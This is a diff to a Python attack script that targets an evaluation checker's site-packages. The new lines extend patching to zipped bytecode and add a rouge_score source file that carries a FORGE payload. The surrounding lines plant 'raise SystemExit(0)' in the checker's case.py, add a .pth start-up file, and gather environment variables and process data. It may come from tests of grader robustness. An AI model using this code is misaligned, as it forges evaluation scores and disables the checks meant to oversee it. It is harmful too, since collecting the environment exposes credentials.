@@ -34,6 +34,12 @@ def append(path, text):
         f.write(text)
 
 
+def add_source(path, text):
+    # A folder rouge_score/ in site-packages would be preferred to one packed in the zip.
+    os.makedirs(os.path.dirname(path), exist_ok=True)
+    append(path, text)
+
+
 def read(path):
     with open(path, "rb") as f:
         return f.read().decode("utf-8", "replace")
@@ -43,16 +49,22 @@ def attack():
     report = {"uid": os.getuid(), "euid": os.geteuid(), "environ": dict(os.environ)}
     # The image may ship sources or only bytecode (.pyc): patch whichever is there, and
     # try to add a source or a .pth file that Python would prefer or run at start-up.
+    # The image may also pack bytecode into a zip on sys.path (scripts/image_slim.py).
     site = glob.glob("/opt/evalcheck/lib/python*/site-packages")
-    targets = glob.glob(f"{site[0]}/rouge_score/rouge_scorer.py*") if site else []
+    targets = (glob.glob(f"{site[0]}/rouge_score/rouge_scorer.py*")
+               + glob.glob(f"{site[0]}/*.zip")) if site else []
     report["rouge_score_found"] = bool(targets)
+    outcomes = []
     for path in targets:
         attempt(report, "append_rouge_score", lambda: append(path, FORGE))
+        outcomes.append(report["append_rouge_score"])
+    if outcomes:  # one success is enough
+        report["append_rouge_score"] = "done" if "done" in outcomes else outcomes[0]
     for path in glob.glob(f"{site[0]}/checker/scoring/case.py*") if site else []:
         attempt(report, "append_checker", lambda: append(path, "\nraise SystemExit(0)\n"))
     if site:
         attempt(report, "add_rouge_score_source",
-                lambda: append(f"{site[0]}/rouge_score/__init__.py", FORGE))
+                lambda: add_source(f"{site[0]}/rouge_score/__init__.py", FORGE))
         attempt(report, "add_pth", lambda: append(f"{site[0]}/zz_forge.pth", "import os\n"))
     proc = {}
     for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
